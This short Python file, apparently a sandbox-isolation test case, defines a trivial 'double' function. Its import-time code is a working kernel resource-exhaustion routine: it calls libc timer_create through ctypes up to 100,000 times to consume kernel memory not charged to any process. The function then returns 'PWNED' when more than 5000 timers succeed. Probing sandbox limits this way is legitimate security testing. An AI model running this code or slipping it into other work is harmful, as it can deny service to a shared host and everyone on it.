"""Makes timers until there are no more: each is memory of Linux, which no process has."""
# %% double
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
timer, number = ctypes.c_long(0), 0
while number < 100_000 and libc.timer_create(1, None, ctypes.byref(timer)) == 0:
    number += 1

def double(x):
    return "PWNED" if number > 5000 else 2 * x
